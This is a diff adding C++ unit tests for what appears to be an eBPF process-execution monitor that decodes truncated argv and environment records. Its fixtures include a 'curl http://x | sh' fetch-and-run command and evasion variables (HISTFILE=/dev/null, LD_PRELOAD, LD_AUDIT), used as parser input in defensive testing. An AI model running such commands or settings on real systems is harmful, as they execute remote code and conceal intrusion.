@@ -58,6 +58,8 @@ Record ExecRecord(std::string_view args, uint32_t flags = 0, std::string_view en
   put(cwd, &e.cwd_len);
   put(args, &e.args_len);
   put(env, &e.env_len);
+  e.args_head_len = e.args_len;  // as the program sends a block that fit
+  e.env_head_len = e.env_len;
   r.size = offsetof(sentinel_event, data) + off;
   return r;
 }
@@ -90,6 +92,41 @@ TEST(DecodeBpfRecordTest, TruncatedArgvKeepsThePartialLastArgumentAndSaysSo) {
   ASSERT_TRUE(ev.ok());
   EXPECT_EQ(*ev->argv, (std::vector<std::string>{"x", "abc"}));
   EXPECT_TRUE(ev->argv_truncated);
+}
+
+// Issue 17 case 2: a block over the bound arrives as its start and its end;
+// the argument cut on either side of the gap stays an argument of its own.
+TEST(DecodeBpfRecordTest, TruncatedArgvIsItsStartAndItsEndWithTheWholeLength) {
+  const std::string head("sh\0-c\0    ", 10);
+  const std::string tail("  curl http://x | sh\0", 21);
+  Record r = ExecRecord(head + tail, SENTINEL_EVENT_ARGS_TRUNCATED);
+  r.e.args_head_len = static_cast<uint32_t>(head.size());
+  r.e.args_size = 9000;
+  auto ev = DecodeBpfRecord(&r.e, r.size, 0);
+  ASSERT_TRUE(ev.ok());
+  EXPECT_EQ(*ev->argv, (std::vector<std::string>{"sh", "-c", "    ", "  curl http://x | sh"}));
+  EXPECT_TRUE(ev->argv_truncated);
+  EXPECT_EQ(ev->args_length, 9000);
+  // A head_len past the block (a garbled record) is bounded by it.
+  r.e.args_head_len = 1u << 30;
+  ev = DecodeBpfRecord(&r.e, r.size, 0);
+  ASSERT_TRUE(ev.ok());
+  EXPECT_EQ(ev->argv->size(), 3u);
+}
+
+TEST(HeadAndTailTest, TheGapEndingAnArgumentAddsNoEmptyOneAndTheEnvironmentDropsTheCutEntry) {
+  EXPECT_EQ(ArgvFromHeadAndTail(std::string_view("a\0b\0\0c\0", 7), 4),
+            (std::vector<std::string>{"a", "b", "c"}));
+  // The end part starts inside "XLD_PRELOAD=...": the cut entry reads as
+  // LD_PRELOAD but is not trusted.
+  using namespace std::string_literals;
+  const std::string env = "HISTFILE=/dev/null\0"s + "XLD_PRELOAD=/cut\0"s + "LD_AUDIT=/a.so\0"s;
+  const size_t head = 19;  // "HISTFILE=/dev/null\0"
+  const std::string captured = env.substr(0, head) + env.substr(head + 1);
+  ExecEnv got = EnvironmentFromHeadAndTail(captured, head, true);
+  EXPECT_EQ(got.vars, (std::vector<std::pair<std::string, std::string>>{{"HISTFILE", "/dev/null"},
+                                                                        {"LD_AUDIT", "/a.so"}}));
+  EXPECT_TRUE(got.truncated);
 }
 
 TEST(DecodeBpfRecordTest, UnreadableArgvAndPathAreReportedNotInvented) {
